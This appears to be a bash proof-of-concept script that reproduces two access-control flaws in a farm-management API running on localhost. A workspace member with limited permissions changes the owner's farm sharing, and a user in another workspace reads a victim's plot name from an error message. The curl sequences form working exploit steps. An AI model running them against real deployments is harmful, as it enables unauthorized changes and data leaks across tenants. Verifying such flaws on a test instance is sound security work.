#!/usr/bin/env bash
# Items 3 and 5 of issue 7 against a running app (FM_DEV_TOOLS=true, no SMTP): ./attack-35.sh PORT
P=${1:-3851}
B="http://127.0.0.1:$P/fm/v1"
J='Content-Type: application/json'
token_of() { curl -s "$B/dev/outbox?to=$1" | jq -r '.data[0].links[0]' | sed 's#.*/##'; }
signup() { curl -s -X POST "$B/users/signup" -H "$J" -d "{\"email\":\"$1\",\"name\":\"Atacante\",\"last_name\":\"Prueba\",\"password\":\"secreto1\",\"repeat_password\":\"secreto1\",\"phone\":\"0249 15 412-3456\",\"occupation\":\"Productor\"}" > /dev/null
  curl -s "$B/emails/user/validation?token=$(token_of "$1")" > /dev/null; }
signin() { curl -s -X POST "$B/users/signin" -H "$J" -d "{\"email\":\"$1\",\"password\":\"${2:-secreto1}\"}" | jq -r '.data[0].token'; }
R=$RANDOM; A="miembro$R@test.local"
signup "$A"
TD=$(signin demo@gestion-agro.local demo1234)
WD=$(curl -s "$B/users/auth?renew=true" -H "Authorization: Bearer $TD" | jq -r '.data[0].workspace_id')
PERMS='[{"module":"resources","read":true,"update":true,"create":true,"delete":false}]'
curl -s -X POST "$B/workspaces/users?workspace_id=$WD" -H "$J" -H "Authorization: Bearer $TD" -d "{\"email\":\"$A\",\"permissions\":$PERMS}" | jq -c '{status, message}'
TA=$(signin "$A")
FARM=$(curl -s "$B/farms?workspace_id=$WD" -H "Authorization: Bearer $TD" | jq -c '.data[0] | {farm_id, name, workspaces: [.workspaces[].workspace_id]}')
echo "demo farm before: $FARM"
FID=$(echo "$FARM" | jq -r .farm_id)
echo; echo "=== 3. A member with resources:update changes the owner's sharing of a farm"
echo "\$ curl -X PUT '$B/farms?farm_id=$FID&workspace_id=$WD' -H 'Authorization: Bearer <member>' -d '{\"workspaces\":[]}'"
curl -s -X PUT "$B/farms?farm_id=$FID&workspace_id=$WD" -H "$J" -H "Authorization: Bearer $TA" -d "{\"workspaces\":[]}" | jq -c '{status, message}'
echo "demo farm after: $(curl -s "$B/farms?workspace_id=$WD" -H "Authorization: Bearer $TD" | jq -c ".data[] | select(.farm_id==$FID) | {farm_id, workspaces: [.workspaces[].workspace_id]}")"

echo; echo "=== 5. Another workspace's plot name in an error message"
WA=$(curl -s "$B/users/auth?renew=true" -H "Authorization: Bearer $TA" | jq -r '[.data[0].user.workspaces[] | select(.name != "Agro Demo")][0].workspace_id')
TA=$(curl -s "$B/users/auth?renew=true&workspace_id=$WA" -H "Authorization: Bearer $TA" | jq -r '.data[0].token')
C=$(curl -s -X POST "$B/companies?workspace_id=$WA" -H "$J" -H "Authorization: Bearer $TA" -d '{"name":"Mi Empresa","tax_identifier":"30712345671"}' | jq -r '.data[0].company_id')
CITY=$(curl -s "$B/farms?workspace_id=$WD" -H "Authorization: Bearer $TD" | jq -r '.data[0].city_id')
F=$(curl -s -X POST "$B/farms?workspace_id=$WA" -H "$J" -H "Authorization: Bearer $TA" -d "{\"name\":\"Mi Campo\",\"city_id\":$CITY,\"fields\":[{\"name\":\"Lote propio\",\"hectares\":10}]}" | jq -r '.data[0].farm_id')
S=$(curl -s -X POST "$B/seasons?workspace_id=$WA" -H "$J" -H "Authorization: Bearer $TA" -d '{"name":"2025/26"}' | jq -r '.data[0].season_id')
curl -s -X POST "$B/seasons/plans?workspace_id=$WA" -H "$J" -H "Authorization: Bearer $TA" -d "{\"season_id\":$S,\"company_id\":$C,\"farm_id\":$F}" > /dev/null
SP=$(curl -s "$B/seasons/plans?workspace_id=$WA" -H "Authorization: Bearer $TA" | jq -r '.data[0].season_plan_id')
# a plot of the demo's that the attacker cannot see
VICTIM=$(curl -s "$B/fields?workspace_id=$WD" -H "Authorization: Bearer $TD" | jq -c '.data[3] | {field_id, name}')
echo "victim plot (demo workspace): $VICTIM"
VF=$(echo "$VICTIM" | jq -r .field_id)
echo "\$ curl -X POST '$B/fields/crops?workspace_id=$WA' -H 'Authorization: Bearer <attacker, own workspace>' -d '{\"field_crops\":[<row>,<same row>]}' (row: {season_plan_id:$SP, field_id:$VF, crop_id:1, hectares:5})"
ROW="{\"season_plan_id\":$SP,\"field_id\":$VF,\"crop_id\":1,\"hectares\":5}"
curl -s -X POST "$B/fields/crops?workspace_id=$WA" -H "$J" -H "Authorization: Bearer $TA" -d "{\"field_crops\":[$ROW,$ROW]}" | jq -c '{status, message, detail}'
